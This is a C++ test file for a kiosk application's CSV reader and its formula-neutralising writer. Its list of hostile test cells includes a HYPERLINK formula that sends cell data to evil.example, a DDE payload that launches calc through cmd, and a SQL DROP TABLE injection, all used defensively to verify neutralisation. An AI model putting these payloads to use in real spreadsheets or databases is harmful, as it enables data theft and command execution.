// The CSV layer: RFC 4180 reader (quoting, delimiters, line endings, damaged rows) and the
// formula-neutralising writer, read back by our reader and by Python's csv module.
#include <kiosk/core/csv.hpp>

#include <doctest/doctest.h>
#include <nlohmann/json.hpp>

#include <algorithm>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <memory>
#include <string>
#include <vector>

using kiosk::core::csv::CsvReader;
using kiosk::core::csv::CsvRecord;
using kiosk::core::csv::CsvWriter;
using kiosk::core::csv::ReaderOptions;
namespace csv = kiosk::core::csv;

namespace {
struct Read {
    int line;
    std::vector<std::string> fields;
    std::string error;
};

std::vector<Read> readAll(std::string_view data, ReaderOptions opt = {}) {
    CsvReader r(data, opt);
    std::vector<Read> out;
    CsvRecord rec;
    while (r.next(rec))
        out.push_back({rec.line, rec.error.empty() ? rec.fields : std::vector<std::string>{}, rec.error});
    return out;
}

using Fields = std::vector<std::string>;
}  // namespace

TEST_CASE("csv reader: RFC 4180 quoting, escaped quotes and quoted line breaks") {
    const auto rows = readAll("a,b,c\r\n\"x, y\",\"say \"\"hi\"\"\",\"two\r\nlines\"\r\nlast,,\r\n");
    REQUIRE(rows.size() == 3);
    CHECK(rows[0].fields == Fields{"a", "b", "c"});
    CHECK(rows[1].line == 2);
    CHECK(rows[1].fields == Fields{"x, y", "say \"hi\"", "two\r\nlines"});
    CHECK(rows[2].line == 4);  // physical line: the quoted CRLF took one
    CHECK(rows[2].fields == Fields{"last", "", ""});
}

TEST_CASE("csv reader: delimiter auto-detection (comma, semicolon, tab) and Excel's sep= line") {
    CHECK(csv::detectDelimiter("a,b,c\n1,2,3") == ',');
    CHECK(csv::detectDelimiter("Bestellnummer;Produkt;Preis\nAB;x;23,00") == ';');
    CHECK(csv::detectDelimiter("a\tb\tc\n") == '\t');
    CHECK(csv::detectDelimiter("\"a;b\",c,d\n") == ',');  // a quoted ; does not count
    const auto semi = readAll("Name;Preis\r\nZoë;23,00\r\n");
    REQUIRE(semi.size() == 2);
    CHECK(semi[1].fields == Fields{"Zoë", "23,00"});
    const auto sep = readAll("sep=;\r\nName;Org\r\nA;B, C\r\n");
    REQUIRE(sep.size() == 2);
    CHECK(sep[0].line == 2);
    CHECK(sep[1].fields == Fields{"A", "B, C"});
    const auto tabs = readAll("a\tb\n1\t2\n");
    CHECK(tabs[1].fields == Fields{"1", "2"});
}

TEST_CASE("csv reader: UTF-8 BOM is skipped") {
    const auto rows = readAll("\xEF\xBB\xBFOrder #,Name\n1,Zoë\n");
    REQUIRE(rows.size() == 2);
    CHECK(rows[0].fields[0] == "Order #");
}

TEST_CASE("csv reader: CR-only, LF and CRLF line endings, blank lines counted") {
    const auto cr = readAll("a,b\r1,2\r\r3,4\r");
    REQUIRE(cr.size() == 3);
    CHECK(cr[1].line == 2);
    CHECK(cr[2].line == 4);
    CHECK(cr[2].fields == Fields{"3", "4"});
    const auto mixed = readAll("a\n\nb\r\nc\rd");
    REQUIRE(mixed.size() == 4);
    CHECK(mixed[1].line == 3);
    CHECK(mixed[2].line == 4);
    CHECK(mixed[3].line == 5);
    CHECK(mixed[3].fields == Fields{"d"});
}

TEST_CASE("csv reader: an unbalanced quote costs its row only, with its line number") {
    const std::string data = "h1,h2\n1,\"never closed\n2,ok\n3,\"fine\"\n";
    const auto rows = readAll(data);
    REQUIRE(rows.size() == 4);
    CHECK(rows[1].line == 2);
    CHECK(rows[1].error == "unbalanced quote");
    CHECK(rows[2].line == 3);
    CHECK(rows[2].fields == Fields{"2", "ok"});
    CHECK(rows[3].fields == Fields{"3", "fine"});

    // The stray quote pairs with a later row's quote: detected by what follows the "closing" one.
    const auto paired = readAll("h1,h2\n1,\"Jean Dupont\n2,\"Marie\",x\n");
    REQUIRE(paired.size() == 3);
    CHECK(paired[1].error == "unbalanced quote");
    CHECK(paired[2].line == 3);
    CHECK(paired[2].fields == Fields{"2", "Marie", "x"});

    const auto last = readAll("a\n\"b");
    REQUIRE(last.size() == 2);
    CHECK(last[1].error == "unbalanced quote");
}

TEST_CASE("csv reader: lenient where Excel is (quote inside a value, text after a closing quote)") {
    const auto rows = readAll("Jean \"Jojo\" Dupont,\"abc\"def\n");
    REQUIRE(rows.size() == 1);
    CHECK(rows[0].error.empty());
    CHECK(rows[0].fields == Fields{"Jean \"Jojo\" Dupont", "abcdef"});
}

TEST_CASE("csv reader: NUL bytes, invalid UTF-8 and huge fields reject the record") {
    using namespace std::string_literals;
    const auto nul = readAll("a,b\nx\0y,z\nok,1\n"s);
    REQUIRE(nul.size() == 3);
    CHECK(nul[1].error == "NUL byte");
    CHECK(nul[2].fields == Fields{"ok", "1"});

    const auto latin1 = readAll("a,b\nRen\xE9,x\nok,1\n");
    REQUIRE(latin1.size() == 3);
    CHECK(latin1[1].error.find("invalid UTF-8") != std::string::npos);
    CHECK(latin1[2].error.empty());

    const std::string big =
        "a,b\n" + std::string(1024 * 1024, 'x') + ",1\n\"" + std::string(1024 * 1024, 'y') + "\",2\nok,3\n";
    const auto huge = readAll(big);
    REQUIRE(huge.size() == 4);
    CHECK(huge[1].error.find("field too large") != std::string::npos);
    CHECK(huge[2].error.find("field too large") != std::string::npos);
    CHECK(huge[3].line == 4);
    CHECK(huge[3].fields == Fields{"ok", "3"});

    ReaderOptions few;
    few.maxFields = 3;
    const auto wide = readAll("a,b,c,d,e\n1,2\n", few);
    CHECK(wide[0].error.find("too many fields") != std::string::npos);
    CHECK(wide[1].fields == Fields{"1", "2"});
}

TEST_CASE("csv writer: quoting only when needed, CRLF or LF") {
    CHECK(csv::csvCell("plain") == "plain");
    CHECK(csv::csvCell("a,b") == "\"a,b\"");
    CHECK(csv::csvCell("say \"hi\"") == "\"say \"\"hi\"\"\"");
    CHECK(csv::csvCell("two\nlines") == "\"two\nlines\"");
    CHECK(csv::csvCell("a;b", ';') == "\"a;b\"");
    CHECK(csv::csvCell("a;b", ',') == "a;b");
    CHECK(csv::csvCell(" padded") == "\" padded\"");
    CsvWriter crlf;
    crlf.row({"a", "b"});
    CHECK(crlf.data() == "a,b\r\n");
    CsvWriter lf({.delimiter = ';', .lineEnding = csv::LineEnding::Lf, .neutralize = true});
    lf.cell("x;y");
    lf.cell("=1+1");
    lf.endRow();
    CHECK(lf.data() == "\"x;y\";'=1+1\n");
    CHECK(lf.rowsWritten() == 1);
}

TEST_CASE("csv writer: formula neutralisation of = + - @ TAB CR") {
    CHECK(csv::neutralizeFormula("=HYPERLINK(\"http://x\",\"y\")") == "'=HYPERLINK(\"http://x\",\"y\")");
    CHECK(csv::neutralizeFormula("+32 2 555 01 01") == "'+32 2 555 01 01");
    CHECK(csv::neutralizeFormula("-2+3") == "'-2+3");
    CHECK(csv::neutralizeFormula("@SUM(A1)") == "'@SUM(A1)");
    CHECK(csv::neutralizeFormula("\t=1") == "'\t=1");
    CHECK(csv::neutralizeFormula("\r=1") == "'\r=1");
    CHECK(csv::neutralizeFormula("Zoë = speaker") == "Zoë = speaker");
    CHECK(csv::neutralizeFormula("") == "");
    CHECK(csv::safeCsvCell("=cmd|' /C calc'!A0") == "'=cmd|' /C calc'!A0");
    CHECK(csv::safeCsvCell("=1,2") == "\"'=1,2\"");
}

namespace {
const std::vector<std::string> kHostileCells{
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1,\"2\"\r\n3",
    "Zoë Dvořák",
    "'; DROP TABLE attendees; --",
    "",
    " leading space",
};

std::string writeHostile(csv::LineEnding le) {
    CsvWriter w({.delimiter = ',', .lineEnding = le, .neutralize = true});
    w.row({"n", "value"});
    for (std::size_t i = 0; i < kHostileCells.size(); ++i) w.row({std::to_string(i), kHostileCells[i]});
    return w.take();
}
}  // namespace

TEST_CASE("csv writer: neutralised cells read back as the neutralised text by our reader") {
    for (auto le : {csv::LineEnding::Crlf, csv::LineEnding::Lf}) {
        const auto rows = readAll(writeHostile(le));
        REQUIRE(rows.size() == kHostileCells.size() + 1);
        for (std::size_t i = 0; i < kHostileCells.size(); ++i) {
            INFO("cell " << i);
            REQUIRE(rows[i + 1].error.empty());
            CHECK(rows[i + 1].fields.at(1) == csv::neutralizeFormula(kHostileCells[i]));
            // Nothing read back starts like a formula.
            CHECK_FALSE(csv::needsNeutralizing(rows[i + 1].fields.at(1)));
        }
    }
}

TEST_CASE("csv writer: Python's csv module reads the neutralised text back") {
    if (std::system("python3 -c 'import csv, json' >/dev/null 2>&1") != 0) {
        MESSAGE("python3 not available; skipped");
        return;
    }
    const auto dir = std::filesystem::temp_directory_path() / ("kiosk_csv_py_" + std::to_string(::getpid()));
    std::filesystem::create_directories(dir);
    const auto path = dir / "out.csv";
    {
        std::ofstream f(path, std::ios::binary);
        f << writeHostile(csv::LineEnding::Crlf);
    }
    const std::string cmd =
        "python3 -c 'import csv,json,sys; print(json.dumps(list(csv.reader(open(sys.argv[1], "
        "newline=\"\", encoding=\"utf-8\")))))' " +
        path.string();
    std::unique_ptr<FILE, int (*)(FILE*)> p(popen(cmd.c_str(), "r"), pclose);
    REQUIRE(p);
    std::string out;
    char buf[4096];
    while (std::size_t n = std::fread(buf, 1, sizeof buf, p.get())) out.append(buf, n);
    const auto rows = nlohmann::json::parse(out);
    REQUIRE(rows.size() == kHostileCells.size() + 1);
    for (std::size_t i = 0; i < kHostileCells.size(); ++i) {
        INFO("cell " << i);
        CHECK(rows[i + 1][1].get<std::string>() == csv::neutralizeFormula(kHostileCells[i]));
    }
    std::filesystem::remove_all(dir);
}

TEST_CASE(
    "csv writer: a formula after a a semicolon or ',' inside a cell is neutralised for both separators") {
    // A comma file opened by a ';' Excel (Belgium, France) and the other way round.
    CHECK(csv::neutralizeFormula("Acme;=HYPERLINK(\"http://x\")") == "Acme;'=HYPERLINK(\"http://x\")");
    CHECK(csv::neutralizeFormula("Acme,=1+1") == "Acme,'=1+1");
    CHECK(csv::neutralizeFormula("a;+1;-2,@3") == "a;'+1;'-2,'@3");
    CHECK(csv::neutralizeFormula("R&D; research") == "R&D; research");
    CHECK(csv::needsNeutralizing("x;\t=1"));
    for (char delim : {',', ';'}) {
        CsvWriter w({.delimiter = delim, .lineEnding = csv::LineEnding::Crlf, .neutralize = true});
        w.row({"Zoë", "Acme;=cmd|' /C calc'!A0", "B,+1"});
        // Split the written line on either separator, ignoring quotes as a spreadsheet set to
        // the other separator would: no piece starts like a formula.
        const std::string line = w.data().substr(0, w.data().size() - 2);
        for (char split : {',', ';'}) {
            std::size_t start = 0;
            while (start <= line.size()) {
                const std::size_t end = std::min(line.find(split, start), line.size());
                std::string piece = line.substr(start, end - start);
                if (!piece.empty() && piece.front() == '"') piece.erase(0, 1);
                INFO("delimiter " << delim << " split on " << split << ": " << piece);
                CHECK_FALSE(
                    (!piece.empty() && std::string("=+-@\t\r").find(piece.front()) != std::string::npos));
                start = end + 1;
            }
        }
    }
}
